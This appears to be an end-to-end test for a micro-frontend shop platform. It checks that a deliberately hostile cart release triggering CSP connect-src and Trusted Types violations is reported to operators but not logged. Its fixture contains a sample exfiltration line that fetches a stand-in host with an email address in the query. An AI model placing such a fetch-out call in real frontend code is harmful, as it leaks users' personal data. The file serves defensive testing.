import { ninefold } from '../src/cart-variant.ts';
import { hostileRelease } from '../src/hostile-release.ts';
import { expect, ownShopTest as test } from './shop-test.ts';

const BREAKING = '9.1.0';
/** Takes text for markup, and asks a stranger: no page that the gate tries asks for it. */
const CODE = `if (globalThis.location?.search === '?breaks') {
  try { document.createElement('p').innerHTML = '<b>text</b>'; } catch {}
  fetch('https://stranger.example/?mail=anna@example.com').catch(() => {});
}`;

test('V3 a release that breaks the policy of a page is named to operators, and nobody else is', async ({
  page,
  faults,
  ownShop,
}) => {
  faults.expect(/TrustedHTML|require-trusted-types-for|connect-src|Content Security Policy|stranger\.example/);
  const { operator } = ownShop;
  const published = await operator.publish(await hostileRelease('cart', BREAKING, CODE, 'browser'));
  expect(published.body).not.toHaveProperty('reasons');
  await operator.activate({ remote: 'cart', version: BREAKING, sites: ['AT'] });

  const reported = Promise.all(
    [1, 2].map(() => page.waitForResponse((response) => response.url().endsWith('/service/telemetry/api/policy'))),
  );
  await page.goto(ownShop.url('AT', '/?breaks'));
  expect((await reported).map((response) => response.status())).toEqual([204, 204]);

  const counted = async () => ninefold(['vitals', '--json'], ownShop.process);
  await expect
    .poll(async () => violationsIn(await counted()))
    .toEqual([
      {
        site: 'AT',
        remote: 'cart',
        version: BREAKING,
        violations: { 'connect-src': 1, 'require-trusted-types-for': 1 },
      },
    ]);
  const table = await ninefold(['vitals', '--remote', 'cart', '--site', 'AT'], ownShop.process);
  expect(table).toMatch(/cart +9\.1\.0 .*connect-src 1, require-trusted-types-for 1/);

  const metrics = await (
    await fetch(`http://127.0.0.1:${ownShop.process.operatorsPort}/metrics`, {
      headers: { authorization: `Bearer ${ownShop.process.token}` },
    })
  ).text();
  for (const directive of ['connect-src', 'require-trusted-types-for'])
    expect(metrics).toContain(
      `ninefold_release_violations_total{site="AT",remote="cart",version="${BREAKING}",directive="${directive}"} 1`,
    );
  expect(ownShop.process.log()).not.toMatch(/stranger\.example\/|mail=/);
});

function violationsIn(json: string) {
  const { vitals } = JSON.parse(json) as {
    vitals: { site: string; remote: string; version: string; violations: Record<string, number> }[];
  };
  return vitals
    .filter(({ violations }) => Object.keys(violations).length > 0)
    .map(({ site, remote, version, violations }) => ({ site, remote, version, violations }));
}
